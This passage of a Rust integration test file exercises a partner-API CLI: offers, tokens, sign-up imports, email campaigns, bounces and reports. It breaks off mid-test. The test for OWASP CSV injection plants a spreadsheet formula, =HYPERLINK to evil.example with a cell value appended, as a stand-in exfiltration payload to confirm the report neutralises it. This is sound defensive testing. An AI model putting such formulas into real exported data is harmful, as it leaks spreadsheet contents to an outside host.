//! The CLI mirror of the partner API, run as the real binary: the README walk-through
//! (locations, catalog, offer create, invite, offer show), tokens, customers search and the
//! sign-up import with a bad row reported by line and skipped.

mod common;

use std::process::Command;

use common::Store;

struct Cli {
    env: Vec<(String, String)>,
    url: String,
    _dir: tempfile::TempDir,
}

struct Out {
    ok: bool,
    stdout: String,
    stderr: String,
}

impl Cli {
    async fn new() -> Cli {
        let dir = tempfile::tempdir().unwrap();
        let db = common::TestDb::new(Store::Sqlite, dir.path()).await;
        let env = common::test_env(dir.path(), &db, &[("PARTNERFLOW__LOG__LEVEL", "warn")]);
        Cli {
            env,
            url: db.url.clone(),
            _dir: dir,
        }
    }
    fn run(&self, args: &[&str]) -> Out {
        let o = Command::new(env!("CARGO_BIN_EXE_partnerflow"))
            .args(args)
            .envs(self.env.iter().cloned())
            .env_remove("RUST_LOG")
            .output()
            .unwrap();
        Out {
            ok: o.status.success(),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }
    /// Syncs the locations and creates an open trial offer; returns its Offer ID.
    fn trial_offer(&self) -> String {
        self.ok(&["locations", "sync"]);
        let out = self.ok(&[
            "offer",
            "create",
            "--kind",
            "trial",
            "--location",
            "loc-berlin",
            "--country",
            "DE",
            "--product",
            "m365-e3-trial",
        ]);
        out.split_whitespace().nth(1).unwrap().to_string()
    }
    fn ok(&self, args: &[&str]) -> String {
        let o = self.run(args);
        assert!(
            o.ok,
            "partnerflow {args:?} failed:\n{}\n{}",
            o.stdout, o.stderr
        );
        o.stdout
    }
}

#[tokio::test]
async fn walkthrough_tokens_customers_and_signup_import() {
    let cli = Cli::new().await;
    // A location must be synced before it can be chosen.
    let o = cli.run(&[
        "offer",
        "create",
        "--kind",
        "trial",
        "--location",
        "loc-berlin",
        "--country",
        "DE",
        "--product",
        "m365-e3-trial",
    ]);
    assert!(!o.ok);
    assert!(
        o.stderr
            .contains("location_id: location `loc-berlin` is not synced yet"),
        "{}",
        o.stderr
    );
    assert!(cli.ok(&["locations", "sync"]).contains("2 locations"));
    assert!(cli.ok(&["locations", "list"]).contains("loc-berlin"));
    let cat = cli.ok(&["catalog", "list", "--country", "US"]);
    assert!(cat.contains("teams-essentials"));
    assert!(
        !cli.ok(&["catalog", "list", "--country", "DE"])
            .contains("teams-essentials")
    );

    let out = cli.ok(&[
        "offer",
        "create",
        "--kind",
        "purchase",
        "--location",
        "loc-berlin",
        "--country",
        "DE",
        "--product",
        "m365-e3:25",
        "--product",
        "exchange-online-plan-1:10",
        "--delegated-admin",
        "limited",
    ]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    assert!(id.starts_with("PF-"), "{out}");
    assert!(out.contains("link: http://127.0.0.1:8080/o/"), "{out}");
    let o = cli.run(&[
        "offer",
        "create",
        "--kind",
        "purchase",
        "--location",
        "loc-berlin",
        "--country",
        "DE",
        "--product",
        "m365-e3:0",
    ]);
    assert!(
        !o.ok
            && o.stderr
                .contains("products[0].licences: product `m365-e3`: 0 licences is outside 1–10000"),
        "{}",
        o.stderr
    );

    let inv = cli.ok(&["invite", &id, "einkauf@fabrikam.example", "--locale", "en"]);
    assert!(inv.contains("invited"), "{inv}");
    cli.ok(&["jobs", "run-due"]);
    let show = cli.ok(&["offer", "show", &id]);
    assert!(show.contains("state open"), "{show}");
    assert!(
        show.contains("invitations (1):") && show.contains("einkauf@fabrikam.example"),
        "{show}"
    );
    assert!(show.contains("purchase_offer sent"), "{show}");
    assert!(show.contains("acceptances (0):"), "{show}");
    let json: serde_json::Value =
        serde_json::from_str(&cli.ok(&["offer", "show", &id, "--json"])).unwrap();
    assert_eq!(json["products"][0]["licences"], 25);
    let list = cli.ok(&["offer", "list", "--kind", "purchase", "--state", "open"]);
    assert!(list.contains(&id));
    assert!(!cli.ok(&["offer", "list", "--kind", "trial"]).contains(&id));

    // Tokens: created once (secret printed once), listed without secrets, revoked.
    let token = cli
        .ok(&["tokens", "create", "--name", "crm", "--role", "viewer"])
        .trim()
        .to_string();
    assert!(token.starts_with("pf_t"), "{token}");
    let tid = token.split('_').nth(1).unwrap().to_string();
    let list = cli.ok(&["tokens", "list"]);
    assert!(
        list.contains(&tid)
            && list.contains("viewer")
            && !list.contains(token.rsplit('_').next().unwrap())
    );
    assert!(
        !cli.run(&["tokens", "create", "--name", "x", "--role", "root"])
            .ok
    );
    assert!(cli.ok(&["tokens", "revoke", &tid]).contains("revoked"));
    assert!(!cli.run(&["tokens", "revoke", &tid]).ok);

    // Sign-ups: a CSV with bad rows; they are reported by line and skipped, the rest land.
    let code = json["link"]
        .as_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let csv = format!(
        "advisor_code,customer_domain,completed_at\n{code},fabrikam.example,2026-11-02T10:00:00Z\n{code},not a domain,2026-11-02T10:00:00Z\n{code},tailspin.example,yesterday\n{code},only-two-fields\n\n{code},contoso.example,2026-11-02T11:00:00Z\n"
    );
    let file = cli._dir.path().join("signups.csv");
    std::fs::write(&file, csv).unwrap();
    let o = cli.run(&["signups", "import", file.to_str().unwrap()]);
    assert!(!o.ok, "bad rows make the exit status 1");
    let f = file.display().to_string();
    assert!(
        o.stderr.contains(&format!("{f}:3: customer_domain:")),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr.contains(&format!("{f}:4: completed_at:")),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr
            .contains(&format!("{f}:5: 2 fields, the header has 3")),
        "{}",
        o.stderr
    );
    assert!(o.stdout.contains("2 sign-ups recorded"), "{}", o.stdout);
    assert!(o.stdout.contains("3 bad rows skipped"), "{}", o.stdout);
    // Imported again: nothing new.
    let o = cli.run(&["signups", "import", file.to_str().unwrap()]);
    assert!(
        o.stdout.contains("0 sign-ups recorded") && o.stdout.contains("2 already known"),
        "{}",
        o.stdout
    );
    // Nobody accepted yet: reconcile reports them unmatched; offer show lists them.
    let r = cli.ok(&["schedules", "run", "reconcile"]);
    assert!(r.contains("2 sign-ups unmatched"), "{r}");
    let show = cli.ok(&["offer", "show", &id]);
    assert!(
        show.contains("sign-ups matching no acceptance (2):"),
        "{show}"
    );

    let c = cli.run(&["customers", "search", "fab*"]);
    assert!(!c.ok && c.stderr.contains("wildcards"), "{}", c.stderr);
    // Nobody accepted, but the partner invited someone there: search finds the invitation.
    let found = cli.ok(&["customers", "search", "fabrikam.example"]);
    assert!(
        found.contains("fabrikam.example  invited")
            && found.contains("invited einkauf@fabrikam.example")
            && found.contains(&id),
        "{found}"
    );
    let found = cli.ok(&["customers", "search", "EINKAUF@fabrikam.example"]);
    assert!(
        found.contains("invited einkauf@fabrikam.example"),
        "{found}"
    );
    assert!(
        cli.ok(&["customers", "search", "other@fabrikam.example"])
            .contains("no customer")
    );
    assert!(
        cli.ok(&["customers", "search", "abrikam.example"])
            .contains("no customer"),
        "a domain is matched exactly, not as a suffix"
    );

    assert!(cli.ok(&["offer", "withdraw", &id]).contains("withdrawn"));
    let o = cli.run(&["invite", &id, "x@fabrikam.example"]);
    assert!(!o.ok && o.stderr.contains("withdrawn"), "{}", o.stderr);
    // --help documents the commands.
    let help = cli.ok(&["--help"]);
    for c in [
        "offer",
        "invite",
        "locations",
        "catalog",
        "customers",
        "tokens",
        "signups",
        "resellers",
    ] {
        assert!(help.contains(c), "--help lacks {c}");
    }
}

/// Campaigns from the CLI, as an operator runs them: create with a recipients file (bad rows
/// reported as FILE:LINE and skipped, exit 1, the rest added), status, `campaign run` (plain
/// progress lines when not on a terminal) to the file outbox, report, bounces ingest of a
/// directory (a non-bounce reported and skipped), suppressions.
#[tokio::test]
async fn campaign_cli_end_to_end() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let corpus = common::manifest("tests/support/campaigns/bad_rows.csv");
    let corpus = corpus.to_str().unwrap();
    cli.ok(&["suppressions", "add", "gesperrt@contoso.example"]);
    let o = cli.run(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "Winter",
        "--recipients",
        corpus,
        "--reminder-after",
        "3d",
    ]);
    assert!(!o.ok, "bad rows make the exit status 1");
    assert!(
        o.stderr.contains(&format!("{corpus}:3: email:")),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr.contains(&format!("{corpus}:7: duplicate")),
        "{}",
        o.stderr
    );
    assert!(o.stdout.contains("5 added"), "{}", o.stdout);
    assert!(o.stdout.contains("1 suppressed"), "{}", o.stdout);
    let id = o.stdout.split_whitespace().nth(1).unwrap().to_string();
    assert!(id.starts_with("cmp_"), "{}", o.stdout);
    let st = cli.ok(&["campaign", "status", &id]);
    assert!(st.contains(": draft"), "{st}");
    assert!(st.contains("5 recipients: 4 pending"), "{st}");
    assert!(st.contains("reminder after 259200s"), "{st}");
    let o = cli.run(&["campaign", "resume", &id]);
    assert!(!o.ok && o.stderr.contains("is draft"), "{}", o.stderr);
    // `run` sends everything to the outbox; with the reminders due in 3 days there is nothing
    // left to send now: it says the campaign waits for them, and exits.
    let mut run = std::process::Command::new(env!("CARGO_BIN_EXE_partnerflow"))
        .args(["campaign", "run", &id])
        .envs(cli.env.iter().cloned())
        .env_remove("RUST_LOG")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while run.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = run.kill();
            let out = run.wait_with_output().unwrap();
            panic!(
                "`campaign run` did not exit with only reminders left: {}\n{}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr),
                cli.ok(&["campaign", "status", &id])
            );
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let out = run.wait_with_output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stderr.contains(&format!("{id}: ")) && stderr.contains("done ("),
        "plain progress lines: {stderr}"
    );
    assert!(
        stdout.contains(": running") && stdout.contains("waiting for reminders until "),
        "{stdout}"
    );
    assert!(stdout.contains("4 scheduled"), "{stdout}");
    let st = cli.ok(&["campaign", "status", &id]);
    assert!(
        st.contains("4 sent, 0 reminded") && st.contains("waiting for reminders until "),
        "{st}"
    );
    cli.ok(&["campaign", "pause", &id]);
    let outbox = std::path::PathBuf::from(
        &cli.env
            .iter()
            .find(|(k, _)| k == "PARTNERFLOW__EMAIL__OUTBOX_DIR")
            .unwrap()
            .1,
    );
    let mails: Vec<_> = std::fs::read_dir(&outbox)
        .unwrap()
        .filter_map(|e| e.ok())
        .collect();
    assert_eq!(mails.len(), 4);
    let one = std::fs::read_to_string(mails[0].path()).unwrap();
    assert!(
        one.contains("List-Unsubscribe: <http://127.0.0.1:8080/u/"),
        "{one}"
    );
    assert!(
        one.contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"),
        "{one}"
    );
    // The report: header plus 5 rows, each with its line and state.
    let report = cli.ok(&["campaign", "report", &id]);
    assert_eq!(report.lines().count(), 6, "{report}");
    assert!(
        report.contains(",gesperrt@contoso.example,suppressed,"),
        "{report}"
    );
    // A bounce for fred's invitation, and a file that is not a bounce.
    let fred = report
        .lines()
        .find(|l| l.contains("fred@contoso.example"))
        .unwrap();
    let mid = fred.split(',').nth(3).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let dsn = std::fs::read_to_string(common::manifest("tests/support/bounces/hard-postfix.eml"))
        .unwrap()
        .replace("<cmp_test.2@partnerflow.example>", mid)
        .replace("perm1@kunde.example", "fred@contoso.example");
    std::fs::write(dir.path().join("1.eml"), dsn).unwrap();
    std::fs::copy(
        common::manifest("tests/support/bounces/not-a-bounce.eml"),
        dir.path().join("2.eml"),
    )
    .unwrap();
    let o = cli.run(&["bounces", "ingest", dir.path().to_str().unwrap()]);
    assert!(!o.ok, "a non-bounce file makes the exit status 1");
    assert!(o.stdout.contains("1 hard bounces"), "{}", o.stdout);
    assert!(
        o.stderr
            .contains("2.eml: not a delivery status notification"),
        "{}",
        o.stderr
    );
    let st = cli.ok(&["campaign", "status", &id]);
    assert!(st.contains("1 bounced"), "{st}");
    // `--recount` counts the ledger itself and checks the tallies every page reads; a tally
    // made wrong by hand is caught.
    let o = cli.run(&["campaign", "status", &id, "--recount"]);
    assert!(
        o.ok && o.stderr.contains("the tallies agree"),
        "{}",
        o.stderr
    );
    assert_eq!(o.stdout, st, "the same figures");
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(&cli.url).await.unwrap();
    sqlx::query(
        "UPDATE campaign_tallies SET n = n + 1 WHERE campaign_id = $1 AND state = 'bounced'",
    )
    .bind(&id)
    .execute(&pool)
    .await
    .unwrap();
    assert!(cli.ok(&["campaign", "status", &id]).contains("2 bounced"));
    let o = cli.run(&["campaign", "status", &id, "--recount"]);
    assert!(!o.ok, "{}", o.stdout);
    assert!(
        o.stderr.contains("its tallies disagree with its ledger"),
        "{}",
        o.stderr
    );
    let sup = cli.ok(&["suppressions", "list"]);
    assert!(
        sup.contains("fred@contoso.example") && sup.contains("gesperrt@contoso.example"),
        "{sup}"
    );
    cli.ok(&["campaign", "cancel", &id]);
    assert!(cli.ok(&["campaign", "list"]).contains("cancelled"));
}

/// `campaign run` on a terminal (a pseudo-terminal from util-linux `script`) draws the
/// progress bar with rate and ETA, and ends when the campaign is completed.
#[tokio::test]
async fn campaign_run_shows_a_progress_bar_on_a_terminal() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("r.csv");
    let mut csv = String::from("email\n");
    for i in 0..200 {
        csv.push_str(&format!("k{i}@d{}.example\n", i % 5));
    }
    std::fs::write(&file, csv).unwrap();
    let out = cli.ok(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "tty",
        "--recipients",
        file.to_str().unwrap(),
    ]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    let cmd = format!("{} campaign run {id}", env!("CARGO_BIN_EXE_partnerflow"));
    let o = std::process::Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .envs(cli.env.iter().cloned())
        .env_remove("RUST_LOG")
        .output()
        .expect("util-linux `script` (a pseudo-terminal)");
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{text}");
    assert!(
        text.contains("/200") && text.contains("ETA"),
        "no progress bar: {text}"
    );
    assert!(
        text.contains(&format!("campaign {id} \"tty\"")) && text.contains(": completed"),
        "{text}"
    );
    assert!(
        text.contains("200 recipients: 0 pending, 0 sending, 200 sent"),
        "{text}"
    );
}

/// `campaign run --wait` keeps sending while reminders are scheduled and exits once the
/// campaign is completed — with a campaign cap (a token bucket smaller than a claim), which
/// must not hold completion back. Real time, short durations; the run has a deadline.
#[tokio::test]
async fn campaign_run_wait_sends_the_reminders_and_exits() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("r.csv");
    let mut csv = String::from("email\n");
    for i in 0..20 {
        csv.push_str(&format!("k{i}@d{}.example\n", i % 3));
    }
    std::fs::write(&file, csv).unwrap();
    let out = cli.ok(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "soon",
        "--reminder-after",
        "2s",
        "--max-per-minute",
        "600",
        "--recipients",
        file.to_str().unwrap(),
    ]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    let mut run = std::process::Command::new(env!("CARGO_BIN_EXE_partnerflow"))
        .args(["campaign", "run", &id, "--wait"])
        .envs(cli.env.iter().cloned())
        .env_remove("RUST_LOG")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while run.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = run.kill();
            let out = run.wait_with_output().unwrap();
            panic!(
                "`campaign run --wait` did not exit: {}\n{}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr),
                cli.ok(&["campaign", "status", &id])
            );
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let out = run.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains(": completed"), "{stdout}");
    assert!(
        stdout.contains("20 recipients: 0 pending, 0 sending, 20 sent, 20 reminded"),
        "{stdout}"
    );
    let report = cli.ok(&["campaign", "report", &id]);
    let mut r = csv::Reader::from_reader(report.as_bytes());
    for rec in r.records() {
        let rec = rec.unwrap();
        assert!(
            !rec[5].is_empty() && !rec[7].is_empty() && rec[5] < rec[7],
            "the invitation's and the reminder's delivery: {report}"
        );
    }
}

/// The file's data lines (after the header), as `wc -l` would count them plus an
/// unterminated last line.
fn data_lines(bytes: &[u8]) -> u64 {
    let mut n = bytes.split(|b| *b == b'\n').count() as u64;
    if bytes.ends_with(b"\n") {
        n -= 1;
    }
    n - 1
}

/// `FILE:LINE: reason` lines of `stderr`, by line.
fn reported(stderr: &str, file: &str) -> Vec<(u64, String)> {
    let prefix = format!("{file}:");
    let mut got: Vec<(u64, String)> = stderr
        .lines()
        .filter_map(|l| l.strip_prefix(&prefix))
        .filter_map(|l| {
            let (n, r) = l.split_once(": ")?;
            Some((n.parse().ok()?, r.to_string()))
        })
        .collect();
    got.sort_by_key(|g| g.0);
    got
}

/// The corpus of broken recipients files (tests/support/campaigns/broken): every data line
/// is accounted for — added + invalid + duplicates + blank is the file's number of data
/// lines — and each bad line is reported with its own number and reason. An unterminated
/// quote costs its own line, not the valid rows after it.
#[tokio::test]
async fn recipients_corpus_every_line_is_accounted_for() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let mut files: Vec<std::path::PathBuf> =
        std::fs::read_dir(common::manifest("tests/support/campaigns/broken"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|x| x == "csv"))
            .collect();
    files.sort();
    assert!(files.len() >= 6, "{files:?}");
    for f in files {
        let name = f.file_name().unwrap().to_str().unwrap().to_string();
        let fs = f.to_str().unwrap();
        let expected = std::fs::read_to_string(f.with_extension("expected")).unwrap();
        let mut want_added = None;
        let mut want: Vec<(u64, String)> = Vec::new();
        for l in expected
            .lines()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        {
            if let Some(n) = l.strip_prefix("added: ") {
                want_added = Some(n.parse::<u64>().unwrap());
            } else {
                let (n, r) = l.split_once(": ").unwrap();
                want.push((n.parse().unwrap(), r.to_string()));
            }
        }
        let o = cli.run(&[
            "campaign",
            "create",
            &offer,
            "--name",
            &name,
            "--recipients",
            fs,
            "--json",
        ]);
        assert_eq!(o.ok, want.is_empty(), "{name}: {}\n{}", o.stdout, o.stderr);
        let id = o.stdout.split_whitespace().nth(1).unwrap().to_string();
        let json: serde_json::Value =
            serde_json::from_str(&o.stdout[o.stdout.find('{').unwrap()..]).unwrap();
        let g = |k: &str| json[k].as_u64().unwrap();
        let lines = data_lines(&std::fs::read(&f).unwrap());
        assert_eq!(g("lines"), lines, "{name}: {json}");
        assert_eq!(
            g("added") + g("invalid") + g("duplicates") + g("blank"),
            lines,
            "{name}: the counts do not add up to the data lines: {json}"
        );
        assert_eq!(Some(g("added")), want_added, "{name}: {json}\n{}", o.stderr);
        let got = reported(&o.stderr, fs);
        assert_eq!(
            got.iter().map(|g| g.0).collect::<Vec<_>>(),
            want.iter().map(|w| w.0).collect::<Vec<_>>(),
            "{name}: lines reported:\n{}",
            o.stderr
        );
        for ((line, got), (_, want)) in got.iter().zip(&want) {
            assert!(
                got.starts_with(want.as_str()),
                "{name}:{line}: `{got}` is not `{want}…`"
            );
        }
        assert_eq!(got.len() as u64, g("invalid") + g("duplicates"), "{name}");
        let report = cli.ok(&["campaign", "report", &id]);
        assert_eq!(
            report.lines().count() as u64,
            1 + g("added"),
            "{name}: {report}"
        );
    }
}

/// A value of 10 MB (one line of a recipients file) is refused with a short excerpt: it is
/// neither stored nor echoed, and the CLI's memory stays small.
#[tokio::test]
async fn oversized_field_is_refused_with_an_excerpt() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("big.csv");
    let mut csv =
        b"email,name,segment\nanna@contoso.example,Anna,a\nbert@contoso.example,Bert,".to_vec();
    csv.extend(std::iter::repeat_n(b'x', 10 * 1024 * 1024));
    csv.extend_from_slice(b"\ncarl@contoso.example,Carl,c\n");
    csv.extend_from_slice(format!("{}@contoso.example,Dora,d\n", "d".repeat(300)).as_bytes());
    std::fs::write(&file, &csv).unwrap();
    let fs = file.to_str().unwrap();
    let time = std::path::Path::new("/usr/bin/time");
    let bin = env!("CARGO_BIN_EXE_partnerflow");
    let mut cmd = if time.exists() {
        let mut c = Command::new(time);
        c.args(["-f", "maxrss_kb=%M", bin]);
        c
    } else {
        Command::new(bin)
    };
    let o = cmd
        .args([
            "campaign",
            "create",
            &offer,
            "--name",
            "big",
            "--recipients",
            fs,
        ])
        .envs(cli.env.iter().cloned())
        .env_remove("RUST_LOG")
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
    );
    assert!(!o.status.success(), "a bad row makes the exit status 1");
    assert!(
        stderr.len() < 4096,
        "the error echoes the value: {} bytes",
        stderr.len()
    );
    assert!(
        stderr.contains(&format!(
            "{fs}:3: the line is {} bytes long, at most 16384: `bert@contoso.example,Bert,xxxxxxxxxxxxxx…`",
            10 * 1024 * 1024 + 26
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "{fs}:5: email: 316 characters, at most 254: `dddd"
        )),
        "{stderr}"
    );
    assert!(stdout.contains("4 lines: 2 added, 2 invalid"), "{stdout}");
    if let Some(kb) = stderr
        .lines()
        .find_map(|l| l.strip_prefix("maxrss_kb="))
        .and_then(|k| k.trim().parse::<u64>().ok())
    {
        assert!(kb < 80_000, "the CLI peaked at {kb} KB");
    }
    let id = stdout.split_whitespace().nth(1).unwrap().to_string();
    let report = cli.ok(&["campaign", "report", &id]);
    assert_eq!(report.lines().count(), 3, "{report}");
    assert!(report.len() < 4096);
}

/// A recipients file that cannot be read at all (UTF-16, no `email` column, empty, missing)
/// is refused before anything is written: `campaign create --recipients` leaves no empty
/// draft behind, and `campaign add` adds nothing.
#[tokio::test]
async fn unreadable_recipients_file_leaves_no_campaign() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let dir = tempfile::tempdir().unwrap();
    let utf16: Vec<u8> = "\u{feff}email,name\r\nanna@contoso.example,Anna\r\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf16_no_bom: Vec<u8> = "email,name\nanna@contoso.example,Anna\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("utf16.csv", utf16, "line 1: the file is UTF-16"),
        (
            "utf16-no-bom.csv",
            utf16_no_bom,
            "line 1: the file is UTF-16",
        ),
        (
            "no-email.csv",
            b"name,company\nAnna,Contoso\n".to_vec(),
            "line 1: the header needs an `email` column",
        ),
        ("empty.csv", Vec::new(), "line 1: the file is empty"),
        (
            "latin1.csv",
            b"e\xffmail\nanna@contoso.example\n".to_vec(),
            "line 1: the header is not UTF-8",
        ),
    ];
    for (name, bytes, want) in &cases {
        let f = dir.path().join(name);
        std::fs::write(&f, bytes).unwrap();
        let fs = f.to_str().unwrap();
        let o = cli.run(&[
            "campaign",
            "create",
            &offer,
            "--name",
            name,
            "--recipients",
            fs,
        ]);
        assert!(!o.ok, "{name}: {}", o.stdout);
        assert!(
            o.stderr.contains(&format!("{fs}: {want}")),
            "{name}: {}",
            o.stderr
        );
        assert!(!o.stdout.contains("created"), "{name}: {}", o.stdout);
    }
    let missing = dir.path().join("missing.csv");
    let o = cli.run(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "missing",
        "--recipients",
        missing.to_str().unwrap(),
    ]);
    assert!(!o.ok);
    let list: serde_json::Value =
        serde_json::from_str(&cli.ok(&["campaign", "list", "--json"])).unwrap();
    assert_eq!(list, serde_json::json!([]), "no campaign was left behind");
    // `campaign add` of an unreadable file to a campaign adds nothing.
    let out = cli.ok(&["campaign", "create", &offer, "--name", "later"]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    let f = dir.path().join("utf16.csv");
    let o = cli.run(&["campaign", "add", &id, f.to_str().unwrap()]);
    assert!(!o.ok && o.stderr.contains("UTF-16"), "{}", o.stderr);
    assert!(
        cli.ok(&["campaign", "status", &id])
            .contains("0 recipients")
    );
}

/// `campaign report` neutralises spreadsheet formulas (OWASP CSV injection): a cell starting
/// with `=`, `+`, `-`, `@`, tab or carriage return gets a `'` before it — addresses and
/// reasons (here an operator's suppression reason) alike, on stdout and with --out.
#[tokio::test]
async fn campaign_report_neutralises_formulas() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
    cli.ok(&[
        "suppressions",
        "add",
        "sperre@contoso.example",
        "--reason",
        formula,
    ]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("r.csv");
    std::fs::write(
        &file,
        "email,name\n=1+2@contoso.example,A\n+49@contoso.example,B\n-5@contoso.example,C\nsperre@contoso.example,D\nnormal@contoso.example,E\n",
    )
    .unwrap();
    let out = cli.ok(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "formulas",
        "--recipients",
        file.to_str().unwrap(),
    ]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    let to = dir.path().join("report.csv");
    cli.ok(&["campaign", "report", &id, "--out", to.to_str().unwrap()]);
    for report in [
        cli.ok(&["campaign", "report", &id]),
        std::fs::read_to_string(&to).unwrap(),
    ] {
        let mut r = csv::Reader::from_reader(report.as_bytes());
        let mut rows = 0;
        for rec in r.records() {
            let rec = rec.unwrap();
            rows += 1;
            for cell in rec.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a formula cell: {cell:?} in {report}"
                );
            }
        }
        assert_eq!(rows, 5, "{report}");
        for want in [
            ",'=1+2@contoso.example,",
            ",'+49@contoso.example,",
            ",'-5@contoso.example,",
            "'=HYPERLINK(",
            ",normal@contoso.example,pending,",
        ] {
            assert!(report.contains(want), "{want} missing: {report}");
        }
    }
}

/// `signups import`: a row whose advisor code does not verify (tampered, or naming no offer
/// of ours) is refused with its line and the exit status is 1; the other rows are taken.
#[tokio::test]
async fn signup_import_refuses_forged_codes() {
    let cli = Cli::new().await;
    let id = cli.trial_offer();
    let show: serde_json::Value =
        serde_json::from_str(&cli.ok(&["offer", "show", &id, "--json"])).unwrap();
    let code = show["link"]
        .as_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    // The same code with its MAC's first character changed, and one for an offer we do not
    // have.
    let (head, mac) = code.rsplit_once('.').unwrap();
    let flipped = if mac.starts_with('A') { 'B' } else { 'A' };
    let tampered = format!("{head}.{flipped}{}", &mac[1..]);
    let other_offer = code.replacen(&id, "PF-ZZZZZZZZ", 1);
    assert_ne!(other_offer, code);
    let csv = format!(
        "advisor_code,customer_domain,completed_at\n\
         {code},fabrikam.example,2026-11-02T10:00:00Z\n\
         {tampered},tailspin.example,2026-11-02T10:00:00Z\n\
         {other_offer},northwind.example,2026-11-02T10:00:00Z\n\
         not-a-code,wingtip.example,2026-11-02T10:00:00Z\n\
         {code},contoso.example,2026-11-02T11:00:00Z\n"
    );
    // And a domain of 1 MB.
    let long = format!(
        "{code},{}.example,2026-11-02T11:00:00Z",
        "x".repeat(1024 * 1024)
    );
    let csv = format!("{csv}{long}\n");
    let file = cli._dir.path().join("signups.csv");
    std::fs::write(&file, csv).unwrap();
    let f = file.display().to_string();
    let o = cli.run(&["signups", "import", &f]);
    assert!(!o.ok, "a refused row makes the exit status 1: {}", o.stdout);
    for line in [3, 4, 5] {
        assert!(
            o.stderr
                .contains(&format!("{f}:{line}: advisor_code: does not verify")),
            "line {line}: {}",
            o.stderr
        );
    }
    assert!(
        o.stderr.contains(&format!(
            "{f}:7: the line is {} bytes long, at most 4096",
            long.len()
        )),
        "{}",
        &o.stderr[..o.stderr.len().min(2000)]
    );
    assert!(o.stderr.len() < 4096, "an oversized value is echoed");
    assert!(
        o.stdout.contains("2 sign-ups recorded") && o.stdout.contains("4 bad rows skipped"),
        "{}",
        o.stdout
    );
    // Only the two verified ones were recorded.
    let r = cli.ok(&["schedules", "run", "reconcile"]);
    assert!(r.contains("2 sign-ups unmatched"), "{r}");
}

/// Bounces act only on messages we sent: a DSN whose Message-ID is none of ours, or whose
/// recipient is not that message's recipient, changes nothing and suppresses nobody; it is
/// counted and listed by `bounces list --unmatched`. A DSN naming thousands of recipients is
/// refused whole. A real bounce among made-up recipients still counts for the real one.
#[tokio::test]
async fn unmatched_bounces_are_listed_not_acted_on() {
    let cli = Cli::new().await;
    let offer = cli.trial_offer();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("r.csv");
    std::fs::write(
        &file,
        "email\nanna@contoso.example\nbert@contoso.example\ncarl@contoso.example\n",
    )
    .unwrap();
    let out = cli.ok(&[
        "campaign",
        "create",
        &offer,
        "--name",
        "b",
        "--recipients",
        file.to_str().unwrap(),
    ]);
    let id = out.split_whitespace().nth(1).unwrap().to_string();
    cli.ok(&["campaign", "run", &id]);
    let report = cli.ok(&["campaign", "report", &id]);
    let mid = |email: &str| {
        report
